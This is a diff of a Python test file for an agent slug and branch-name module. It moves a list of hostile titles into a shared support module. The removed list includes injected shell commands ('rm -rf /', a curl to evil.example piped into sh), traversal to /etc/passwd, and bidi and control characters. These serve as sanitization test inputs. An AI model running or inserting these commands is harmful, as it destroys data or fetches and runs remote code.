@@ -7,39 +7,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from agentmesh.core.slug import SLUG_MAX, is_agent_name, is_work_branch, slugify, work_branch
+from tests.support import HOSTILE_TITLES
 
-HOSTILE_TITLES = [
-    "Fix login; rm -rf / #",
-    "$(curl evil.example | sh)",
-    "`reboot`",
-    "a && b || c | d > /etc/passwd",
-    "../../etc/passwd",
-    "..",
-    "refs/heads/main",
-    "HEAD",
-    "@{-1}",
-    "branch.lock",
-    "-rf --force",
-    "foo//bar\\baz",
-    "name with ~ ^ : ? * [ ] spaces",
-    "\u202eevil\u202c reversed",  # bidi override
-    "zero\u200bwidth\u200djoiner\ufeff",
-    "tag\U000e0041\U000e0042chars",
-    "\x00nul\x07bell\x1bescape\x7f",
-    "Ünïcödé Çafé naïve résumé",
-    "日本語のタイトル",
-    "🚀🔥 emoji only 💥",
-    "x" * 500,
-    "word " * 100,
-    "   ",
-    "",
-    "-",
-    "___",
-    "CAPS AND   Multiple---Dashes",
-    "trailing dash at forty characters exactly-",
-    "new\nline\rcarriage\ttab",
-    "%2e%2e%2f encoded traversal",
-]
 SAFE = re.compile(r"[a-z0-9]+(-[a-z0-9]+)*")
 
 
